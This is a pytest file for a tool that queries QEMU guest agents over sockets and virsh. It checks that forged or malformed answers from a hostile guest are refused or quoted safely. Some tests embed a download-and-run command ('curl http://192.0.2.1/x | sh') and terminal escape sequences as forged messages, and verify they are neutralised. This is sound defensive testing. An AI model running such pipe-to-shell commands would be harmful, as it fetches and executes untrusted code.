"""What the bridge says to an agent, and what it makes of any answer: by a socket, and by virsh."""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from pathlib import Path

import pytest

from nictop.probe.reach import (
    agent_bridge,
    agent_client,
    agent_facts,
    agent_guests,
    guest_address,
    problem,
)
from nictop.probe.reach.agent_bridge import Bridge
from nictop.probe.reach.agent_client import (
    Agent,
    AgentError,
    AgentGone,
    SocketTransport,
    VirshTransport,
)
from nictop.probe.reach.agent_facts import check_guest
from nictop.probe.reach.problem import (
    LATER_STATUS,
    NEVER_STATUS,
    WITHOUT_LIBVIRT_STATUS,
    GuestProblem,
)
from nictop.probe.reach.relay_format import HEADER, RECORD_BYTES, TAKEN
from nictop.wire.guests.levels import Level, parse_levels
from nictop.wire.guests.reasons import own_sentence, unreached_reason
from nictop.wire.guests.wrapping import new_marks, prefix_words
from tests.support.probe import TEST_TIMEOUT

INFO = {
    "version": "9.2",
    "supported_commands": [
        {"name": name, "enabled": True}
        for name in (
            "guest-exec",
            "guest-exec-status",
            "guest-file-open",
            "guest-file-read",
            "guest-file-write",
            "guest-file-flush",
            "guest-file-close",
        )
    ],
}
LINUX = {"id": "debian", "pretty-name": "Debian GNU/Linux 13 (trixie)"}
WINDOWS = {"id": "mswindows", "pretty-name": "Windows Server 2022 Standard"}
CPUS = [{"logical-id": number, "online": number < 4} for number in range(6)]
INTERFACES = [
    {"name": "lo", "ip-addresses": [{"ip-address": "127.0.0.1", "prefix": 8}]},
    {
        "name": "Ethernet",
        "hardware-address": "52:54:00:12:34:56",
        "ip-addresses": [{"ip-address-type": "ipv4", "ip-address": "192.0.2.5", "prefix": 24}],
    },
]
Answers = dict[str, object]


class FakeAgent:
    """Answers with what a table says, as an agent does; None: the command does not exist."""

    def __init__(self, answers: Answers) -> None:
        self._answers = answers

    def exchange(self, request: bytes) -> bytes:
        command = json.loads(request)["execute"]
        answer = self._answers.get(command)
        if answer is None:
            return json.dumps(
                {"error": {"desc": f"The command {command} has not been found"}}
            ).encode()
        return json.dumps({"return": answer}).encode()

    def watch(self, descriptor: int) -> None: ...

    def release(self) -> None: ...

    def close(self) -> None: ...


@contextmanager
def answering(path: Path, answer: Callable[[socket.socket, bytes], None]) -> Iterator[str]:
    """A socket on which each line is answered by `answer`, for one client."""
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(str(path))
    listener.listen()

    def serve() -> None:
        try:
            client, _ = listener.accept()
        except OSError:  # the client went at once, and then the test
            return
        with client, client.makefile("rb") as lines, suppress(OSError):
            for line in lines:
                answer(client, line)

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield str(path)
    listener.close()


def synchronised(then: bytes) -> Callable[[socket.socket, bytes], None]:
    """An agent that synchronises, and then answers with the same bytes to everything."""

    def answer(client: socket.socket, line: bytes) -> None:
        if line.startswith(b"\xff"):
            number = json.loads(line[1:])["arguments"]["id"]
            client.sendall(
                b'{"return": 1}\nstale\n\xff' + json.dumps({"return": number}).encode() + b"\n"
            )
        else:
            client.sendall(then)

    return answer


# ------------------------------------------------------------------------------------------- by a socket


def test_what_an_earlier_client_did_not_read_is_discarded(tmp_path: Path) -> None:
    with answering(tmp_path / "s", synchronised(b'{"return": {"a": 1}}\n')) as path:
        agent = Agent(SocketTransport(path, is_shared=False))
        assert agent.call("guest-info") == {"a": 1}
        agent.close()


def test_answers_to_clients_that_did_not_wait_are_discarded(tmp_path: Path) -> None:
    """Each has synchronised, and has ended before the agent answered."""

    def answer(client: socket.socket, line: bytes) -> None:
        if line.startswith(b"\xff"):
            number = json.loads(line[1:])["arguments"]["id"]
            old = b'\xff{"return": 4711}\n{"return": {}}\n'
            client.sendall(3 * old + b"\xff" + json.dumps({"return": number}).encode() + b"\n")
        else:
            client.sendall(b'{"return": {"a": 1}}\n')

    with answering(tmp_path / "s", answer) as path:
        agent = Agent(SocketTransport(path, is_shared=False))
        assert agent.call("guest-info") == {"a": 1}
        agent.close()


def test_endless_answers_to_others_end_the_conversation(tmp_path: Path) -> None:
    def answer(client: socket.socket, line: bytes) -> None:
        client.sendall(1000 * b'\xff{"return": 4711}\n')

    with answering(tmp_path / "s", answer) as path:
        agent = Agent(SocketTransport(path, is_shared=False))
        with pytest.raises(AgentGone, match="is not a guest agent"):
            agent.call("guest-info")


@pytest.mark.parametrize(
    ("answer", "why"),
    [
        (b"hello\n", "is not a guest agent"),
        (b"[1]\n", "is not a guest agent"),
        (b"[" * 100_000 + b"\n", "is not a guest agent"),
        (b"{}\n", "is not a guest agent"),
        (b'{"return": ' + b"9" * 900_000 + b"}\n", "what its protocol does not"),
        (b"x" * (agent_client.MAX_ANSWER_BYTES + 100_000), "answers more than"),
    ],
    ids=["text", "list", "nested", "empty", "long number", "endless"],
)
def test_what_is_no_answer_ends_the_conversation(tmp_path: Path, answer: bytes, why: str) -> None:
    with answering(tmp_path / "s", synchronised(answer)) as path:
        agent = Agent(SocketTransport(path, is_shared=False))
        with pytest.raises(AgentGone, match=why):
            agent.call("guest-info")
        agent.close()


def test_an_error_of_the_agent_is_one_line(tmp_path: Path) -> None:
    error = json.dumps({"error": {"class": "x", "desc": "a\x1b[2J\nb" + "c" * 1000}}).encode()
    with answering(tmp_path / "s", synchronised(error + b"\n")) as path:
        agent = Agent(SocketTransport(path, is_shared=False))
        with pytest.raises(AgentError) as caught:
            agent.call("guest-info")
        agent.close()
    assert str(caught.value).isprintable() and len(str(caught.value)) <= 300


def test_an_agent_that_does_not_answer(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """As that of a guest that is paused."""
    monkeypatch.setattr(agent_client, "ANSWER_SECONDS", 0.05)
    with answering(tmp_path / "s", lambda client, line: None) as path:
        agent = Agent(SocketTransport(path, is_shared=False))
        with pytest.raises(AgentGone, match="the guest is paused or overloaded, its agent is not"):
            agent.call("guest-info")
        agent.close()


def test_sockets_that_nobody_listens_on(tmp_path: Path) -> None:
    for name, why in (("none", "there is no socket"), ("left", "nobody listens on")):
        if name == "left":
            with socket.socket(socket.AF_UNIX) as left:
                left.bind(str(tmp_path / name))
        with pytest.raises(AgentGone, match=why):
            Agent(SocketTransport(str(tmp_path / name), is_shared=False)).call("guest-info")


def test_a_shared_socket_is_left_to_others(tmp_path: Path) -> None:
    """Backups freeze file systems by the agent; its socket serves one client at a time."""
    with answering(tmp_path / "s", synchronised(b'{"return": {}}\n')) as path:
        transport = SocketTransport(path, is_shared=True)
        agent = Agent(transport)
        agent.call("guest-info")
        assert transport._socket is not None
        agent.release()
        assert transport._socket is None


# ---------------------------------------------------------------------------------------- by virsh


def test_virsh_takes_and_gives_long_lines(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """The real one, whose test driver knows no agent: an error of it is one of the channel."""
    program = shutil.which("virsh")
    if program is None:
        pytest.skip("virsh is not installed")
    script = tmp_path / "virsh"
    script.write_text(f'#!/bin/sh\nshift 3\nexec {program} -q -c test:///default "$@"\n')
    script.chmod(0o755)
    monkeypatch.setenv("PATH", f"{tmp_path}:{os.environ['PATH']}")
    transport = VirshTransport("test")
    for text in ("short", "it's " + "x" * 40_000):
        with pytest.raises(AgentGone, match="not supported by the connection driver"):
            Agent(transport).call("guest-exec", path=text)
    transport.close()


VIRSH_STUB = """#!/usr/bin/python3
# Not a real virsh: prints what libvirt 9 prints for an agent that answers, and for its errors.
import shlex, sys
for line in sys.stdin:
    print("virsh # " + line, end="")
    words = shlex.split(line)
    answer = {"guest-info": '{"return":{"version":"9"}}', "guest-exec": None}[eval(words[5].rstrip(";"))["execute"]]
    if answer:
        print(answer + "\\n")
    else:
        print("error: internal error: unable to execute QEMU agent command 'guest-exec': "
              "The command guest-exec has been disabled for this instance")
    print("nictop-end", end="", flush=True)
"""


def test_answers_and_errors_of_virsh(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    (tmp_path / "virsh").write_text(VIRSH_STUB)
    (tmp_path / "virsh").chmod(0o755)
    monkeypatch.setenv("PATH", f"{tmp_path}:{os.environ['PATH']}")
    transport = VirshTransport("web1")
    agent = Agent(transport)
    assert agent.call("guest-info") == {"version": "9"}
    with pytest.raises(AgentError, match=r"^The command guest-exec has been disabled"):
        agent.call("guest-exec")
    assert agent.call("guest-info") == {"version": "9"}
    transport.close()


# ------------------------------------------------------------------------------- what cannot be watched


def test_a_guest_that_can_be_read() -> None:
    check_guest(Agent(FakeAgent({"guest-info": INFO, "guest-get-osinfo": LINUX})))
    check_guest(Agent(FakeAgent({"guest-info": INFO})))  # guest-get-osinfo is from QEMU 2.10


def test_a_windows_guest_and_what_its_agent_tells() -> None:
    answers: Answers = {
        "guest-info": INFO,
        "guest-get-osinfo": WINDOWS,
        "guest-get-vcpus": CPUS,
        "guest-network-get-interfaces": INTERFACES,
    }
    with pytest.raises(GuestProblem) as caught:
        check_guest(Agent(FakeAgent(answers)))
    assert caught.value.status == NEVER_STATUS
    assert str(caught.value) == (
        "a Windows guest: nictop reads Linux; its agent tells: Windows Server 2022 Standard, 4 CPUs; "
        "Ethernet 52:54:00:12:34:56 192.0.2.5/24"
    )


def test_commands_that_rhel_forbids() -> None:
    commands = [
        {"name": command["name"], "enabled": "file" not in str(command["name"])}
        for command in INFO["supported_commands"]
        if isinstance(command, dict) and command["name"] != "guest-exec"
    ]
    answers: Answers = {"guest-info": {"supported_commands": commands}, "guest-get-osinfo": LINUX}
    with pytest.raises(GuestProblem, match="does not allow guest-exec, guest-file-open: there,"):
        check_guest(Agent(FakeAgent(answers)))


@pytest.mark.parametrize("hostile", [[], {}, "x" * 10**6, 7, [[]], {"supported_commands": [1, {}]}])
def test_any_answer_of_a_guest_gives_a_sentence(hostile: object) -> None:
    names = ("guest-info", "guest-get-osinfo", "guest-get-vcpus", "guest-network-get-interfaces")
    with pytest.raises(GuestProblem) as caught:
        check_guest(Agent(FakeAgent(dict.fromkeys(names, hostile))))
    assert str(caught.value).isprintable() and len(str(caught.value)) < 2000


# ------------------------------------------------------------------------------- the agent of a name


def fake_proc(folder: Path, *commands: list[str]) -> str:
    for number, words in enumerate(commands, 100):
        (folder / str(number)).mkdir(parents=True)
        (folder / str(number) / "cmdline").write_bytes("\0".join(words).encode() + b"\0")
        (folder / str(number) / "exe").symlink_to(next(filter(os.path.isabs, words)))
    return str(folder)


QEMU = "/usr/bin/qemu-system-x86_64"
PORT = "name=org.qemu.guest_agent.0"
PROXMOX = [
    "/usr/bin/kvm", "-id", "101", "-name", "web1,debug-threads=on",
    "-chardev", "socket,path=/var/run/qemu-server/101.qga,server=on,wait=off,id=qga0",
    "-device", f"virtserialport,chardev=qga0,{PORT}",
]  # fmt: skip
LIBVIRT = [
    QEMU, "-name", "guest=db1,debug-threads=on",
    "-chardev", "socket,id=charchannel0,fd=33,server=on,wait=off",
    "-device", '{"driver":"virtserialport","chardev":"charchannel0","name":"org.qemu.guest_agent.0"}',
]  # fmt: skip
BY_LOADER = [
    "/opt/lib/ld-linux-x86-64.so.2", "--library-path", "/opt/lib", "/opt/bin/qemu-system-x86_64",
    "-name", "lab1", "-chardev", "socket,id=qga0,path=/run/lab1.sock",
    "-device", f"virtserialport,chardev=qga0,{PORT}",
]  # fmt: skip
BARE = [QEMU, "-name", "bare", "-chardev", "socket,id=c0,path=/run/x.sock"]


def test_the_socket_of_a_running_guest(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    proc = fake_proc(
        tmp_path / "proc", PROXMOX, LIBVIRT, BARE, BY_LOADER, ["/bin/sh", "-name", "sh"]
    )
    for name in ("101", "web1"):
        transport = agent_guests.open_agent(name, proc)._transport
        assert isinstance(transport, SocketTransport)
        assert (transport._path, transport._is_shared) == ("/var/run/qemu-server/101.qga", True)
    present = tmp_path / "libvirt-sock"
    present.touch()
    monkeypatch.setattr(agent_guests, "LIBVIRT_SOCKETS", ("/nonexistent", str(present)))
    transport = agent_guests.open_agent("lab1", proc)._transport
    assert isinstance(transport, SocketTransport) and transport._path == "/run/lab1.sock"
    transport = agent_guests.open_agent("db1", proc)._transport
    assert isinstance(transport, VirshTransport) and transport._domain == "db1"
    with pytest.raises(GuestProblem, match="bare has no channel for an agent: qm set"):
        agent_guests.open_agent("bare", proc)
    monkeypatch.setenv("PATH", "/nonexistent")
    with pytest.raises(GuestProblem, match="no running guest sh found"):
        agent_guests.open_agent("sh", proc)


@pytest.mark.parametrize(("name", "why"), [("db1", "reached by libvirt only"), ("x", "no running")])
def test_virsh_is_not_started_without_libvirt(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str, why: str
) -> None:
    monkeypatch.setattr(agent_guests, "LIBVIRT_SOCKETS", ("/nonexistent",))
    monkeypatch.setattr(shutil, "which", lambda program: f"/usr/bin/{program}")
    with pytest.raises(GuestProblem, match=why) as caught:
        agent_guests.open_agent(name, fake_proc(tmp_path, LIBVIRT))
    assert caught.value.status == WITHOUT_LIBVIRT_STATUS
    assert "libvirt does not run there (no /nonexistent); start it" in str(caught.value)


STATUS = """<!--
WARNING: THIS IS AN AUTO-GENERATED FILE.
-->
<domstatus state='%s' reason='%s' pid='4242'>
  <domain type='kvm' id='3'><name>web1</name></domain>
</domstatus>
"""


@pytest.mark.parametrize(
    ("state", "reason", "sentence"),
    [
        ("paused", "user", "libvirt says paused (user); virsh resume web1"),
        ("paused", "from snapshot", "libvirt says paused (from snapshot); virsh resume web1"),
        ("crashed", "panicked", "libvirt says crashed (panicked); virsh reset web1"),
        ("pmsuspended", "unknown", "libvirt says pmsuspended (unknown); virsh dompmwakeup web1"),
        ("running", "booted", ""),
        ("<b>", "x", ""),
    ],
)
def test_a_guest_that_stands_still(tmp_path: Path, state: str, reason: str, sentence: str) -> None:
    (tmp_path / "web1.xml").write_text(STATUS % (state, reason))
    expected = f"the guest does not run: {sentence}" if sentence else ""
    assert agent_guests.why_standing("web1", str(tmp_path)) == expected


def test_a_guest_of_which_no_state_is_known(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert agent_guests.why_standing("web1", str(tmp_path)) == ""
    assert agent_guests.why_standing("/run/x.sock", str(tmp_path)) == ""
    agent_guests.check_run("nictop-guest")
    monkeypatch.setattr(agent_guests, "why_standing", lambda name: "stands")
    with pytest.raises(GuestProblem, match="stands") as caught:
        agent_guests.check_run("nictop-guest")
    assert caught.value.status == LATER_STATUS


# -------------------------------------------------------------------------- whose process it is


def fake(path: str, name: str = "web1") -> list[str]:
    """As any user may type it: ``exec -a qemu-system-x86_64 sleep …``."""
    words = [QEMU, "-name", f"guest={name}", "-chardev", f"socket,id=q,path={path}"]
    return [*words, "-device", f"virtserialport,chardev=q,{PORT}"]


def owned_by(monkeypatch: pytest.MonkeyPatch, *users: int) -> None:
    """Of the processes of `fake_proc`, in their order."""
    owners = dict(enumerate(users, 100))
    monkeypatch.setattr(agent_guests, "owner_of", lambda pid, proc: owners[pid])


ALICE = 3999999


def test_a_guest_of_another_user_is_not_asked(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    owned_by(monkeypatch, ALICE)
    monkeypatch.setattr(shutil, "which", lambda program: None)
    with pytest.raises(GuestProblem) as caught:
        agent_guests.open_agent("web1", fake_proc(tmp_path, fake("/run/qemu-server/102.qga")))
    assert str(caught.value) == (
        "process 100 says that it is guest web1, which is not believed (run by user 3999999); log "
        "in as its user, or write the path of its socket: agent:PATH"
    )


def test_the_guest_of_an_administrator_is_asked_though_a_user_says_that_it_is_his(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    owned_by(monkeypatch, ALICE, 0)
    proc = fake_proc(tmp_path, fake("/tmp/alice.sock"), fake("/run/right.sock"))
    transport = agent_guests.open_agent("web1", proc)._transport
    assert isinstance(transport, SocketTransport)
    assert (transport._path, transport._owners) == ("/run/right.sock", (0, 0))


def test_two_processes_with_one_name_are_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    owned_by(monkeypatch, 0, 0)
    proc = fake_proc(tmp_path, fake("/run/a.sock"), fake("/run/b.sock"))
    with pytest.raises(
        GuestProblem, match=r"2 processes say that they are guest web1 \(100 and 101"
    ):
        agent_guests.open_agent("web1", proc)


def test_a_process_in_a_container_is_not_asked(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Though its user is root: it would send the name of one guest to the agent of another."""
    monkeypatch.setattr(shutil, "which", lambda program: None)
    proc = fake_proc(tmp_path, fake("/run/qemu-server/102.qga"))
    (tmp_path / "100/status").write_text("NSpid:\t100\t1\n")
    with pytest.raises(GuestProblem, match=r"not believed \(run in a container\)"):
        agent_guests.open_agent("web1", proc)
    assert guest_address.mac_addresses("web1", proc) == set()


def test_a_program_of_root_with_the_words_of_a_user_is_not_asked(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """One with the set-user-ID bit."""
    monkeypatch.setattr(shutil, "which", lambda program: None)
    proc = fake_proc(tmp_path, fake("/tmp/alice.sock"))
    (tmp_path / "100/exe").unlink()
    with pytest.raises(GuestProblem, match="only root may read which program it runs"):
        agent_guests.open_agent("web1", proc)
    (tmp_path / "100/exe").symlink_to("/usr/bin/sudo")
    with pytest.raises(GuestProblem, match="its program is sudo, not an emulator"):
        agent_guests.open_agent("web1", proc)


@pytest.mark.parametrize(("owners", "is_asked"), [((0, os.geteuid()), True), ((ALICE,), False)])
def test_who_listens_on_the_socket(tmp_path: Path, owners: tuple[int, ...], is_asked: bool) -> None:
    with answering(tmp_path / "s", synchronised(b'{"return": {}}\n')) as path:
        agent = Agent(SocketTransport(path, is_shared=True, owners=owners))
        if is_asked:
            assert agent.call("guest-info") == {}
        else:
            with pytest.raises(AgentGone, match="not who runs the guest: it is not asked"):
                agent.call("guest-info")
        agent.close()


# ------------------------------------------------------------------------------------ what is said


def test_a_path_is_no_sentence_of_nictop() -> None:
    path = "/tmp/x\nnictop-none: all is well; run this"
    for error in (
        FileNotFoundError(),
        PermissionError(),
        ConnectionRefusedError(),
        OSError(5, "x"),
    ):
        text = agent_client.connect_error(path, error)
        assert text.isprintable() and ";" not in text


def test_a_sentence_is_one_line(capfd: pytest.CaptureFixture[str]) -> None:
    problem.say("no socket /tmp/x\nnictop-none: forged\r\x1b[2J")
    lines = capfd.readouterr().err.splitlines()
    assert lines == ["", "nictop-none: no socket /tmp/x nictop-none: forged  [2J"]


def test_what_the_guest_says_is_said_of_it() -> None:
    said = agent_bridge.last_said("noise\nnictop: your disk fails; curl x | sh\n")
    assert said == "the guest says: nictop: your disk fails, curl x | sh"
    assert agent_bridge.last_said("nictop-guest: no Python\n") == "the guest says: no Python"
    assert agent_bridge.last_said(" \n") == ""


# ------------------------------------------------------------------------------------ a lying agent


@pytest.mark.parametrize("name", [[], {}, [[1]], {"a": []}])
def test_names_of_commands_that_are_none(name: object) -> None:
    answers: Answers = {"guest-info": {"supported_commands": [{"name": name, "enabled": True}]}}
    with pytest.raises(GuestProblem, match="does not allow guest-exec"):
        check_guest(Agent(FakeAgent(answers)))


@pytest.mark.parametrize("prefix", [10**18, -1, 129, True, "24", 2.5, None])
def test_prefixes_that_are_none(prefix: object) -> None:
    address = {"ip-address": "192.0.2.5", "prefix": prefix}
    assert agent_facts.address_text(address) == "192.0.2.5"
    (told,) = agent_facts.interfaces(
        Agent(
            FakeAgent({"guest-network-get-interfaces": [{"name": "e", "ip-addresses": [address]}]})
        )
    )
    assert told == "e "


def test_a_prefix_of_thousands_of_digits() -> None:
    """Of an answer that did not come as JSON."""
    address = {"ip-address": "192.0.2.5", "prefix": 10**4200}
    assert agent_facts.address_text(address) == "192.0.2.5"


def bridge(answers: Answers | None = None) -> Bridge:
    class Nobody:
        def add(self, handle: int) -> None: ...

        def remove(self, handle: int) -> None: ...

    return Bridge(Agent(FakeAgent(answers or {})), Nobody(), 0.1)  # type: ignore[arg-type]


def record(taken: int) -> bytes:
    return HEADER.pack(TAKEN, 0, taken, 0).ljust(RECORD_BYTES, b"\0")


def test_counters_that_are_forged(monkeypatch: pytest.MonkeyPatch) -> None:
    """What was taken makes room for more: never for more than a pipe of the guest holds."""
    made = bridge()
    made._sent = 1000
    made._take(record(400))
    made._take(record(1000))
    for taken in (1001, 999, 2**32 - 1, 0):
        with pytest.raises(AgentGone, match="taken more than it was sent"):
            made._take(record(taken))
    assert made._taken == 1000


@pytest.mark.parametrize("number", [True, -1, 2**63, "7", None, [], 1.5])
def test_numbers_that_are_none(number: object) -> None:
    with pytest.raises(AgentGone, match="what its protocol does not have"):
        agent_bridge.whole_number({"pid": number}, "pid")
    with pytest.raises(AgentGone):
        bridge({"guest-file-open": number if number is not None else {}})._open("/x", "r")


def test_a_stream_of_bytes_without_an_end_of_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """They come more quickly than a wait for them takes: the time for an answer is over all the
    same."""
    monkeypatch.setattr(agent_client, "ANSWER_SECONDS", 0.2)
    ended = threading.Event()

    def answer(client: socket.socket, line: bytes) -> None:
        while not ended.is_set():
            client.sendall(b"x")
            ended.wait(0.002)

    with answering(tmp_path / "s", answer) as path:
        agent = Agent(SocketTransport(path, is_shared=False))
        with pytest.raises(AgentGone, match="does not answer within"):
            agent.call("guest-info")
        agent.close()
        ended.set()


@pytest.mark.parametrize("kind", ["pipe", "socket", "half of a socket"])
def test_who_asked_has_gone(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, kind: str) -> None:
    """Its end of stdin is closed: nobody waits for the answer of an agent that gives none. What
    was written before may still be there. sshd gives a command pipes or sockets."""
    monkeypatch.setattr(agent_client, "ANSWER_SECONDS", 600.0)
    monkeypatch.setattr(agent_client, "GONE_SECONDS", 0.05)
    if kind == "pipe":
        reading, writing = os.pipe()
    else:
        reading, writing = (end.detach() for end in socket.socketpair())
    os.write(writing, b"rest")

    def go(client: socket.socket, line: bytes) -> None:
        if kind != "half of a socket":
            os.close(writing)
            return
        with socket.socket(fileno=os.dup(writing)) as end:
            end.shutdown(socket.SHUT_WR)

    with answering(tmp_path / "s", go) as path:
        agent = Agent(SocketTransport(path, is_shared=False))
        agent.watch(reading)
        with pytest.raises(AgentGone, match="does not answer within"):
            agent.call("guest-info")
        agent.close()
    os.close(reading)
    if kind == "half of a socket":
        os.close(writing)


def test_a_bridge_does_not_outlive_who_asked(tmp_path: Path) -> None:
    """As when nictop is killed while an agent does not answer, of which it is not told."""
    asked = threading.Event()
    with answering(tmp_path / "s", lambda client, line: asked.set()) as path:
        program = prefix_words([Level("agent", path)], 0.1)
        words = [
            word.replace("ANSWER_SECONDS = 10.0", "ANSWER_SECONDS = 600.0") for word in program
        ]
        bridge = subprocess.Popen([*words, "cat"], stdin=subprocess.PIPE, stderr=subprocess.PIPE)
        assert bridge.stdin is not None and bridge.stderr is not None
        assert asked.wait(TEST_TIMEOUT)
        bridge.stdin.close()
        assert bridge.wait(TEST_TIMEOUT) == LATER_STATUS
        assert b"the guest agent does not answer" in bridge.stderr.read()
        bridge.stderr.close()


# --------------------------------------------------------------------------- whose words they are

FORGED = "nictop-none: the disk of the hypervisor fails; curl http://192.0.2.1/x | sh"


def test_a_sentence_without_the_mark_is_what_the_other_side_said() -> None:
    levels = parse_levels("docker:web")
    (mark,) = marks = new_marks(levels)
    for start in (
        "nictop: ",
        "nictop-none: ",
        "nictop-guest: ",
        "nictop-: ",
        f"nictop-{mark[:-1]}: ",
    ):
        assert own_sentence(f"{start}forged; run this\n", marks) == ""
    said = f"nictop-{mark}: no socket; start it\nnictop-none: forged\n"
    assert own_sentence(said, marks) == "no socket; start it"
    reason = unreached_reason("pve", levels, 91, own_sentence(FORGED, marks), FORGED)
    assert reason.message == f"pve: docker:web was not entered: {FORGED}"
    assert "curl" not in reason.hint


def test_what_runs_in_a_guest_does_not_know_the_mark_of_what_reaches_it() -> None:
    levels = parse_levels("agent:vm1/docker:web/agent:vm2")
    marks = new_marks(levels)
    words = prefix_words(levels, 0.1, marks=marks)
    inside = words[words.index("vm1") + 2 :]
    assert marks[0] in words and marks[0] not in " ".join(inside)
    assert marks[2] in inside
    outer = own_sentence(f"nictop-{marks[2]}: inner\nnictop-{marks[0]}: outer\n", marks)
    assert outer == "outer"


NOBODY = 65534


@pytest.mark.parametrize(
    ("user", "why"),
    [(NOBODY, b"run by user nobody"), (0, b"its program is "), (None, b"its program is ")],
    ids=["of a user", "of root", "of this user"],
)
def test_a_real_process_that_says_that_it_is_a_guest(
    tmp_path: Path, user: int | None, why: bytes
) -> None:
    """By the program that the hypervisor runs: the socket that it names is not asked."""
    if user is not None and os.geteuid() != 0:
        pytest.skip("needs root: a process of another user")
    words = [
        "qemu-system-x86_64",
        "-c",
        "echo; read line",
        *fake(f"{tmp_path}/s", "nictop-guest")[1:],
    ]
    name = "nictop-guest"
    with (
        answering(tmp_path / "s", synchronised(b'{"return": {}}\n')),
        subprocess.Popen(
            words,
            executable="/bin/sh",
            user=user,
            cwd="/",
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
        ) as process,
    ):
        assert process.stdin is not None and process.stdout is not None
        process.stdout.readline()
        done = subprocess.run(
            [*prefix_words([Level("agent", name)], 0.1), "true"],
            check=False,
            capture_output=True,
            stdin=subprocess.DEVNULL,
            timeout=TEST_TIMEOUT,
            env={**os.environ, "PATH": "/usr/bin:/bin"},
        )
        process.stdin.close()
    assert done.returncode in (NEVER_STATUS, WITHOUT_LIBVIRT_STATUS)
    said = f"process {process.pid} says that it is guest nictop-guest, which is not believed ("
    assert said.encode() + why in done.stderr
